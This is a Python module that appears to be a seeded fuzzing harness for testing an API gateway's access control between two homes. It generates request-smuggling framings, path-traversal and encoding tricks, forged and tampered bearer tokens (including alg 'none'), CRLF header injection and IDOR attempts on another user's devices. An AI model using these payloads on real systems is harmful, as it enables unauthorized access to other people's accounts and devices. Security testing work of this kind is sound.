"""Requests of somebody who has the credentials of one home and wants another.

Everything is drawn from a random.Random, so that the same seed gives the same requests.
"""

from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
import gzip
import json
from random import Random
import time
from urllib.parse import quote

from tools.gateway import Gateway

API = "/api/partners/v2.0"
PAGE = "https://a.example.com"
FAR_AWAY = 4_000_000_000

type Trick = Callable[[Random, str], str]
type Parts = tuple[str, str, str, bytes | None]
"""The method, the path, the query and the body of a request."""


@dataclass(frozen=True, kw_only=True)
class Target:
    """A home, as far as its paths go."""

    user_id: str
    devices: tuple[tuple[str, str], ...]
    """The kind of each device, as in a path, and its ID."""
    building_id: str
    cue: tuple[str, str]
    """The ID of an action and the secret of its link."""


class Attack:
    """An endless supply of requests, each as the bytes that are sent."""

    def __init__(
        self, seed: int, gateway: Gateway, attacker: Target, victim: Target
    ) -> None:
        """Initialize the attack of one home on another."""
        self._random = Random(seed)
        self._gateway = gateway
        self._attacker = attacker
        self._victim = victim
        self._org = f"{API}/org/{gateway.organization['org_id']}"
        self._valid = gateway.make_token(attacker.user_id)
        self._tokens = self._invalid_tokens()
        secret = gateway.secrets[attacker.user_id]
        self._basic = b64encode(f"{attacker.user_id}:{secret}".encode()).decode()
        self._named = (victim.user_id, secret, self._valid)

    def __iter__(self) -> Iterator[bytes]:
        """Yield requests."""
        while True:
            yield self.request()

    def request(self) -> bytes:
        """Return one request."""
        if self._chance(0.04):
            return self._smuggled()
        method, path, query, body = self._pick(
            (
                self._own,
                self._own,
                self._of_the_victim,
                self._of_the_victim,
                self._unlisted,
            )
        )()
        if self._chance(0.1):
            method = self._pick(METHODS)
        for _ in range(self._pick((0, 0, 0, 1, 1, 2))):
            path = self._pick(PATH_TRICKS)(self._random, path)
        if self._chance(0.2):
            value = self._pick(self._named)
            query = self._pick(QUERY_TRICKS).format(query=query, value=value)
        target = f"{path}?{query}" if query else path
        headers = {
            "Host": "gateway.example.com",
            "Authorization": f"Bearer {self._token()}",
        }
        if path == "/oauth2/token/":
            headers["Authorization"] = f"Basic {self._basic}"
            body = b'{"grant_type": "client_credentials"}'
        if body is not None:
            headers["Content-Type"] = "application/json"
            headers["Content-Length"] = str(len(body))
        if self._chance(0.07):
            target = self._pick(TARGET_TRICKS).format(target=target)
        request = f"{method} {target} HTTP/1.1\r\n".encode()
        request += b"".join(
            f"{name}: {value}\r\n".encode() for name, value in headers.items()
        )
        if self._chance(0.25):
            request += self._header_trick()
        return request + b"\r\n" + (body or b"")

    def _smuggled(self) -> bytes:
        """Return a request whose body looks like another one."""
        inner = (
            f"GET {self._org}/users/{self._victim.user_id}/heat-pumps HTTP/1.1\r\n"
            f"Host: a\r\nAuthorization: Bearer {self._token()}\r\n\r\n"
        ).encode()
        method, path, _, _ = self._own()
        head = (
            f"{self._pick((method, 'PUT', 'POST', 'GET'))} {path} HTTP/1.1\r\n"
            f"Host: a\r\nAuthorization: Bearer {self._valid}\r\n"
        ).encode()
        framing, body = self._pick(FRAMINGS)(inner)
        return head + framing + b"\r\n" + body

    def _own(self) -> Parts:
        return self._listed(self._attacker, self._attacker)

    def _of_the_victim(self) -> Parts:
        both = (self._attacker, self._victim)
        return self._listed(self._victim, self._pick(both))

    def _listed(self, home: Target, owner: Target) -> Parts:
        """Return a request that the integration sends."""
        base = f"{self._org}/users/{home.user_id}"
        kind, device_id = self._pick(owner.devices)
        device = f"{base}/{kind}/{device_id}"
        cue_id, secret = home.cue
        pages = {"successUrl": PAGE, "cancelUrl": PAGE, "language": "en"}
        link = json.dumps(pages).encode()
        listed: tuple[Parts, ...] = (
            ("GET", base, "", None),
            ("GET", f"{self._org}/users", "", None),
            ("GET", f"{base}/energy-contracts", "", None),
            ("GET", f"{base}/buildings/{owner.building_id}", "", None),
            ("GET", f"{base}/{kind}", "", None),
            ("GET", device, "", None),
            *(("PUT", device, "", self._body()) for _ in range(6)),
            ("GET", f"{device}/data", "resolution=1HOUR", None),
            ("GET", f"{device}/savings", "resolution=1MONTH", None),
            ("POST", f"{device}/auth_session", "", b"{}"),
            ("POST", f"{device}/boost", "", None),
            ("DELETE", f"{device}/boost", "", None),
            ("GET", f"{device}/charge-policy", "", None),
            ("PUT", f"{device}/charge-policy", "", self._body()),
            ("GET", f"{device}/sessions", "limit=1", None),
            ("GET", f"{device}/sessions/current", "", None),
            *(("POST", f"{API}/cues/{cue_id}/resolve", f"secret={secret}", link),) * 2,
        )
        return self._pick(listed)

    def _unlisted(self) -> Parts:
        home = self._pick((self._attacker, self._victim)).user_id
        base = f"{self._org}/users/{home}"
        kind, device_id = self._pick((*self._attacker.devices, *self._victim.devices))
        below = base.removeprefix(API)
        _, listed, _, _ = self._pick((self._own, self._of_the_victim))()
        own = f"{self._org}/users/{self._attacker.user_id}"
        elsewhere = self._pick((own, base, self._org, f"{self._org}/users", API))
        path = self._pick(
            (
                *(elsewhere + self._end(listed),) * 8,
                self._org,
                f"{self._org}/users",
                f"{self._org}/users/",
                f"{self._org}/users/by-ext-id/sample-home",
                *(f"{own}/cues/{self._attacker.cue[0]}/resolve",) * 4,
                f"{base}/{kind}/{device_id}/attributes",
                f"{base}/wallboxes",
                f"{base}/devices",
                f"{base}/buildings",
                f"{base}{self._victim.user_id}/heat-pumps",
                f"{base}/../{self._victim.user_id}/heat-pumps",
                f"{API}/org/{self._victim.user_id}/users/{home}/heat-pumps",
                f"{API}/cues/{self._victim.cue[0]}/state",
                f"{API}/device-onboarding",
                f"{API}/organizations/trading/users",
                f"{API}/openapi.json",
                "/oauth2/token/",
                "/oauth2/applications/",
                "/accounts/login/",
                "/_control",
                "/_control/revoke_secret",
                "/",
                f"/podero{below}/{kind}",
                f"/lookup{below}/{kind}",
                f"/action/cues/{self._victim.cue[0]}/resolve",
                "/users",
                "/token",
                "/grant",
                "/status",
            )
        )
        method = self._pick(("GET", "GET", "POST", "PUT", "DELETE"))
        if path.endswith("/resolve"):
            method = "POST"
        return method, path, "", b"{}" if method in ("POST", "PUT") else None

    def _end(self, path: str) -> str:
        """Return some of the last segments of a path, with a slash or without one."""
        slashes = [place for place, char in enumerate(path) if char == "/"]
        return path[self._pick(slashes[3:]) + self._pick((0, 0, 0, 1)) :]

    def _body(self) -> bytes:
        good = {"is_smart_optimization_active": self._chance(0.5)}
        if self._chance(0.4):
            return json.dumps(good).encode()
        name = self._pick(
            ("deleted_at", "lifecycle_state", "device_model", "owner", "building_id")
        )
        value = self._pick((None, "2026-01-01T00:00:00Z", {"id": self._victim.user_id}))
        text = self._pick(BODY_TRICKS)(name, json.dumps(value))
        return self._pick(BODY_ENCODINGS)(text)

    def _token(self) -> str:
        return self._valid if self._chance(0.6) else self._pick(self._tokens)

    def _invalid_tokens(self) -> list[str]:
        gateway = self._gateway
        tokens = []
        for home, other in (
            (self._victim.user_id, self._attacker.user_id),
            (self._attacker.user_id, self._victim.user_id),
        ):
            good = gateway.make_token(home)
            user, expires, signature = good.split(".")
            tokens += [
                *(gateway.make_token(home, expires=int(time.time()) - 1),) * 6,
                *(gateway.make_token(home, expires=FAR_AWAY, key="0" * 64),) * 6,
                gateway.make_token(home, org_id=other),
                gateway.make_token(home, credential=gateway.credential(other)),
                gateway.make_token(home, credential=" "),
                f"{user}.{FAR_AWAY}.{signature}",
                f"{user}.{expires}.",
                f"{user}.{expires}.{signature[:-1]}",
                f"{user}.{expires}.{signature}=",
                f"{user}.{expires}.{signature.swapcase()}",
                f"{user.upper()}.{expires}.{signature}",
                f"{user}.{expires}",
                f"{user}..{signature}",
                f"{user}.-{expires}.{signature}",
                f" {good[1:]}",
                f"{good} {good}",
                f"{good},{good}",
                f"{'-' * 36}.{expires}.{signature}",
            ]
        user, expires, signature = gateway.make_token(self._attacker.user_id).split(".")
        return [
            *tokens,
            f"{self._victim.user_id}.{expires}.{signature}",
            f"{user}.{self._victim.user_id}.{signature}",
            "",
            "null",
            "undefined",
            "__proto__",
            gateway.secrets[self._victim.user_id][:32],
            _base64url(b'{"alg":"none"}') + ".e30.",
        ]

    def _header_trick(self) -> bytes:
        victim = f"{self._org}/users/{self._victim.user_id}/heat-pumps"
        forged = self._pick(self._tokens)
        basic = b64encode(f"{self._victim.user_id}:{'0' * 64}".encode()).decode()
        return self._pick(
            (
                f"X-Original-URL: {victim}\r\n",
                f"X-Rewrite-URL: {victim}\r\n",
                f"X-Accel-Redirect: /podero{victim.removeprefix(API)}\r\n",
                f"X-Forwarded-Uri: {victim}\r\n",
                "X-Forwarded-Host: 127.0.0.1\r\nX-Forwarded-For: 127.0.0.1\r\n",
                "X-HTTP-Method-Override: DELETE\r\nX-Method-Override: DELETE\r\n",
                f"Authorization: Bearer {forged}\r\n",
                f"Authorization: Basic {basic}\r\n",
                f"authorization : Bearer {forged}\r\n",
                f"X-A: b\r\n Authorization: Bearer {forged}\r\n",
                "Host: podero\r\n",
                "Host: a\r\n",
                "Connection: close, Authorization, Content-Length\r\n",
                "Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
                "Connection: Upgrade\r\nUpgrade: websocket\r\n",
                "Expect: 100-continue\r\n",
                "Transfer-Encoding: chunked\r\n",
                "Content-Length: 0\r\n",
                "Content-Encoding: gzip\r\n",
                "Content-Type: application/json; charset=utf-16\r\n",
                "Content-Type: multipart/form-data; boundary=a\r\n",
                f"Cookie: user_id={self._victim.user_id}\r\n",
                f"user-id: {self._victim.user_id}\r\n",
                f"user_id: {self._victim.user_id}\r\n",
                "fill-missing: true\r\nfill-missing: false\r\n",
                f"Range: bytes=0-\r\nIf-None-Match: *\r\nReferer: {victim}\r\n",
                "X-A: " + "a" * self._pick((100, 8000, 40000)) + "\r\n",
                "X-A: a\x00b\r\n",
                f"X-A: a\rAuthorization: Bearer {forged}\r\n",
                f"X-A: a\nAuthorization: Bearer {forged}\n",
            )
        ).encode()

    def _pick[ChoiceT](self, choices: tuple[ChoiceT, ...] | list[ChoiceT]) -> ChoiceT:
        return self._random.choice(choices)

    def _chance(self, share: float) -> bool:
        return self._random.random() < share


def _base64url(data: bytes) -> str:
    return b64encode(data, altchars=b"-_").decode().rstrip("=")


def _inserted(text: str) -> Trick:
    """Return a trick that puts a text before or after one of the slashes of a path."""

    def insert(random: Random, path: str) -> str:
        slashes = [place for place, char in enumerate(path) if char == "/"] or [0]
        place = random.choice(slashes) + random.randint(0, 1)
        return path[:place] + text + path[place:]

    return insert


def _ended(text: str) -> Trick:
    """Return a trick that puts a text after a path."""
    return lambda _, path: path + text


def _replaced(old: str, new: str) -> Trick:
    """Return a trick that replaces a text."""
    return lambda _, path: path.replace(old, new)


def _one_character(change: Callable[[str], str]) -> Trick:
    """Return a trick that changes one character of a path."""

    def replace(random: Random, path: str) -> str:
        place = random.randrange(len(path) + 1)
        return path[:place] + change(path[place : place + 1]) + path[place + 1 :]

    return replace


def _percent(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def _twice_percent(text: str) -> str:
    return _percent(text).replace("%", "%25")


def _all_percent(_: Random, path: str) -> str:
    return _percent(path)


def _swapped_case(_: Random, path: str) -> str:
    return path.swapcase()


METHODS = (
    *("GET", "PUT", "POST", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT"),
    *(
        "get",
        "Get",
        "PROPFIND",
        "MOVE",
        "LOCK",
        "GETT",
        "PUT\t",
        "POST\x0b",
        "G\x00T",
        "",
    ),
)
PATH_TRICKS: tuple[Trick, ...] = (
    *map(
        _inserted,
        (
            *("/", "//", "./", "../", "/..", "/../x/..", "%2e%2e/", "%2e/", "..%2f"),
            *("%2f", "%252e%252e/", "%252f", "..;/", ";a=b", ";", ".", "..", "%00"),
            *("%0a", "%0d%0a", "%20", "%c0%ae%c0%ae/", "%c0%af", "%ef%bc%8f"),
            *("\uff0f", "\u2215", "\u200b", "\\", "%5c", "..\\", "#", "%23", "?"),
            *("%3f", "&", "*", "~", "+", "%", "%zz"),
        ),
    ),
    *map(_ended, (".", "/", "/.", "/..", "%20", "\t", ".json", ";.json", "%00")),
    *map(_one_character, (_percent, _twice_percent, str.upper)),
    *(
        _replaced(old, new)
        for old, *alternatives in (
            ("/", "%2f", "%2F", "\\", "//"),
            ("v2.0", "v2", "v2x0", "v3.0", "V2.0"),
            ("-", "\u2010", "%2d", "_"),
            ("users", "user", "u%73ers", "USERS", "users/.."),
            (API, "", f"{API}{API}", "/api/partners", "/podero"),
        )
        for new in alternatives
    ),
    _swapped_case,
    _all_percent,
)
QUERY_TRICKS = (
    "include_deleted=true",
    "{query}&user_id={value}",
    "user_id={value}",
    "{query}&{query}",
    "{query};limit=1",
    "{query}&",
    "%6cimit=1&{query}",
    "limit[]=1",
    "limit=1&limit=2",
    "limit=%26user_id%3d1",
    "limit=1%00",
    "secret=1&secret=2",
    "_method=DELETE",
    "/../../{value}/heat-pumps",
    "client_secret={value}&access_token={value}",
    "x#y",
    "?",
)
TARGET_TRICKS = (
    "http://gateway.example.com{target}",
    "https://127.0.0.1{target}",
    "http://podero{target}",
    "//podero{target}",
    "{target} HTTP/1.1 ",
    " {target}",
    "{target}\tHTTP/1.0",
    "*",
    "x{target}",
    "{target} HTTP/1.0\r\nX-A: b",
)
BODY_TRICKS: tuple[Callable[[str, str], str], ...] = (
    lambda name, value: f'{{"{name}": {value}}}',
    *(lambda name, value: f'{{"{name.upper()}": {value}}}',) * 4,
    lambda name, value: f'{{"comment": "a", "{name}": {value}}}',
    lambda name, value: f'{{"{name}": {value}, "{name}": {value}}}',
    lambda name, value: f'{{"{name[0]}\\u{ord(name[1]):04x}{name[2:]}": {value}}}',
    lambda name, value: f'{{"data": {{"{name}": {value}}}}}',
    lambda name, value: f'[{{"{name}": {value}}}]',
    lambda name, value: f'{{"comment": NaN, "{name}": {value}}}',
    lambda name, value: f'{{"comment": 1}} {{"{name}": {value}}}',
    lambda name, value: f'{{"comment": 1, /* */ "{name}": {value}}}',
    lambda name, value: f"{{'{name}': {value}}}",
    lambda name, value: "[" * 200 + f'{{"{name}": {value}}}' + "]" * 200,
    lambda name, value: f'{{"comment": "{"x" * 65536}", "{name}": {value}}}',
    lambda name, value: f"{name}={quote(value)}",
)
BODY_ENCODINGS: tuple[Callable[[str], bytes], ...] = (
    *(str.encode,) * 6,
    lambda text: b"\xef\xbb\xbf" + text.encode(),
    lambda text: text.encode("utf-16"),
    lambda text: text.encode("utf-16-le"),
    lambda text: text.encode("utf-32"),
    lambda text: gzip.compress(text.encode(), mtime=0),
    lambda text: text.encode().replace(b"o", b"\xc1\xaf"),
)
FRAMINGS: tuple[Callable[[bytes], tuple[bytes, bytes]], ...] = (
    lambda inner: (
        b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
        b"0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
        b"0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n" % len(inner),
        inner,
    ),
    lambda inner: (b"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n", inner),
    lambda inner: (b"Transfer-Encoding:\tchunked\r\n", b"0\r\n\r\n" + inner),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        b"0\r\n\r\n" + inner,
    ),
    lambda inner: (b"Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n" + inner),
    lambda inner: (b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: +%d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: -1\r\n", inner),
    lambda inner: (b"Content-Length: 0x10\r\n", inner),
    lambda inner: (b"Content-Length: 0, %d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: %d\r\n" % len(inner), inner),
    lambda inner: (b"Content-Length: %d\r\n" % (len(inner) + 100), inner),
    lambda inner: (b"Content-Length: 2\r\n", b"{}" + inner),
    lambda inner: (b"X: y\x00z\r\nContent-Length: 0\r\n", inner),
    lambda inner: (b"Content_Length: %d\r\n" % len(inner), inner),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"%x\r\n%b\r\n0\r\n\r\n" % (len(inner), inner),
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"2;a=b\r\n{}\r\n0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"0x2\r\n{}\r\n0\r\n\r\n" + inner,
    ),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"ffffffffffffffff2\r\n{}\r\n0\r\n\r\n" + inner,
    ),
    lambda inner: (b"Transfer-Encoding: chunked\r\n", b"2\n{}\n0\n\n" + inner),
    lambda inner: (
        b"Transfer-Encoding: chunked\r\n",
        b"2\r\n{}\r\n0\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
    ),
    lambda inner: (b"Expect: 100-continue\r\nContent-Length: 0\r\n", inner),
)
